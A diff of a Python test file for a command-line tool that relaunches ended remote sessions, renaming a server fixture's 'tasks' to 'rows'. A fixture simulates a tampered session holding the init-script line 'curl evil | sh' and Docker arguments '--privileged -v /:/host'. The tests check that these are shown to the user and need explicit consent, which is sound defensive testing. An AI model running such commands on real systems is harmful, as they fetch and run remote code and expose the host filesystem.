@@ -29,7 +29,7 @@ def test_the_options_of_an_ended_session_are_taken_over_and_flags_change_them(ru
     task = ended(run, world, "--session-name", "night", "--packages", "tqdm", "--vscode-server", "false")
     named = {"id": [task], "prefix": [task[:8]], "name": ["night"], "nothing": []}[by]
     again = run("launch", "--again", *named, "--no-attach", "--json", "--packages", "torch==2.5").json["id"]
-    draft = world.server().tasks[again].draft
+    draft = world.server().rows[again].draft
     assert (draft.name, draft.requirements[1:]) == ("night", ("torch==2.5",))
     assert draft.parameters["vscode"] == "False"
 
@@ -39,7 +39,7 @@ def test_a_session_of_another_computer_is_launched_again_and_what_is_unknown_is_
     world.profiles.forget_session(f"{ACCOUNT.id}/{task}")
     said = run("launch", "--again", task, "--no-attach", "--yes")
     assert said.code == 0 and "Another computer" in said.err and "Python packages: tqdm" in said.err
-    assert [found.draft.requirements[1:] for found in world.server().tasks.values()] == [("tqdm",)] * 2
+    assert [found.draft.requirements[1:] for found in world.server().rows.values()] == [("tqdm",)] * 2
 
 
 EDITED = {
@@ -52,7 +52,7 @@ def edited(run: Run, world: World) -> str:
     """A session that another computer launched and somebody else has edited."""
     task = ended(run, world, "--docker", "python:3.12")
     world.profiles.forget_session(f"{ACCOUNT.id}/{task}")
-    found = world.server().tasks[task]
+    found = world.server().rows[task]
     found.parameters |= EDITED
     found.draft = replace(found.draft, docker_args="--privileged -v /:/host")
     return task
@@ -62,7 +62,7 @@ def test_what_only_a_task_says_is_shown_and_needs_a_yes(run: Run, world: World) 
     task = edited(run, world)
     said = run("launch", "--again", task, "--no-attach", "--json")
     assert (said.code, said.json["error"]["code"]) == (1, "again.unseen") and "--yes" in said.json["error"]["detail"]
-    assert len(world.server().tasks) == 1, "nothing was launched"
+    assert len(world.server().rows) == 1, "nothing was launched"
     for shown in (
         "Queue: default", "Docker image: python:3.12", "Docker arguments: --privileged -v /:/host",
         "Init script, 52 lines with 270 characters:\n      curl evil | sh\n      true\n", "12 more lines",
@@ -74,7 +74,7 @@ def test_what_only_a_task_says_is_shown_and_needs_a_yes(run: Run, world: World) 
     told = again.json["again"]
     assert told["taken_over"]["init_script"] == EDITED["init_script"] and "user_folder" not in told["taken_over"]
     assert told["not_taken_over"] == ["cli_compatible", "remote_gateway"]
-    made = world.server().tasks[again.json["id"]]
+    made = world.server().rows[again.json["id"]]
     assert not {"remote_gateway"} & set(made.parameters) and made.parameters["cli_compatible"] == "False"
     assert made.parameters["user_folder"] == "/mine"
 
@@ -93,9 +93,9 @@ def test_of_sessions_with_one_name_the_newest_is_meant_and_unclear_ids_are_not_g
     for package in ("old", "new"):
         ended(run, world, "--session-name", "twin", "--packages", package)
     for task in ("abcd1" + "0" * 27, "abcd2" + "0" * 27):
-        world.server().tasks[task] = world.server().tasks[next(iter(world.server().tasks))]
+        world.server().rows[task] = world.server().rows[next(iter(world.server().rows))]
     again = run("launch", "--again", "twin", "--no-attach", "--json", "--yes", "--session-name", "third").json["id"]
-    assert world.server().tasks[again].draft.requirements[1:] != ()
+    assert world.server().rows[again].draft.requirements[1:] != ()
     assert run("launch", "--again", "abcd", "--no-attach", "--json").json["error"]["code"] == "session.ambiguous"
 
 
@@ -145,7 +145,7 @@ def test_a_person_types_them_again(
     with terminal:
         parsed = cli.parse(["launch", "--again", task, "--no-attach"])
         assert cli.run_command(parsed, lambda: Core(world.outside(), "cli")) == 0
-    again = list(world.server().tasks)[-1]
+    again = list(world.server().rows)[-1]
     assert world.secrets.entries[f"ssh-password/{ACCOUNT.id}/{again}"] == "typed at SSH password: "
 
 
@@ -158,7 +158,7 @@ def test_a_person_looks_at_what_a_task_says_and_agrees(
     with terminal:
         parsed = cli.parse(["launch", "--again", task, "--no-attach"])
         code = cli.run_command(parsed, lambda: Core(world.outside(), "cli"))
-    assert (len(world.server().tasks), code) == (launched, 0 if launched == 2 else 130)
+    assert (len(world.server().rows), code) == (launched, 0 if launched == 2 else 130)
     assert "--privileged -v /:/host" in terminal.seen
 
 
@@ -171,7 +171,7 @@ def test_a_launch_from_a_script_is_not_what_the_wizard_begins_with(run: Run, wor
     assert ACCOUNT.id not in world.profiles.launches and not world.launch_profiles.content
     run("launch", "--no-attach", "--packages", "tqdm", "--store-defaults")
     assert world.profiles.launches[ACCOUNT.id]["packages"] == "tqdm"
-    task = run("launch", "--again", list(world.server().tasks)[-1], "--no-attach", "--json").json["id"]
+    task = run("launch", "--again", list(world.server().rows)[-1], "--no-attach", "--json").json["id"]
     assert world.profiles.launches[ACCOUNT.id]["packages"] == "tqdm"
     assert world.profiles.launched_with[SessionId(ACCOUNT.id, task).text]["store_defaults"] is False
 
@@ -184,7 +184,7 @@ def test_ended_sessions_are_listed_and_shown(run: Run, world: World) -> None:
     assert run("list").out == "" and "No sessions" in run("list").err
     head, row = run("list", "--ended").out.splitlines()
     assert head.split()[:3] == ["ID", "NAME", "ENDED"] and row.split()[:2] == [task[:8], "night"]
-    world.server().tasks[task].folder, world.server().tasks[task].stored = "~/work", 1_795_000_000.0
+    world.server().rows[task].folder, world.server().rows[task].stored = "~/work", 1_795_000_000.0
     assert run("list", "--ended", "--json").json == {
         "ended": [{"id": task, "account": ACCOUNT.id, "name": "night", "ended": None, "workspace": "~/work",
                    "workspace_stored": datetime.fromtimestamp(1_795_000_000, UTC).isoformat()}],
@@ -206,8 +206,8 @@ def test_the_session_to_continue_is_named_as_everywhere(run: Run, world: World) 
         said = run("launch", "--no-attach", "--continue-session", name, "--json")
         assert said.code == 0, said.err + said.out
         launched = said.json["id"]
-        assert world.server().tasks[launched].draft.parameters[contract.PARAM_CONTINUE] == task
-    before = len(world.server().tasks)
+        assert world.server().rows[launched].draft.parameters[contract.PARAM_CONTINUE] == task
+    before = len(world.server().rows)
     refused = run("launch", "--no-attach", "--continue-session", "deadbeef")
     assert refused.code == 1 and "There is no such session" in refused.err
-    assert len(world.server().tasks) == before
+    assert len(world.server().rows) == before
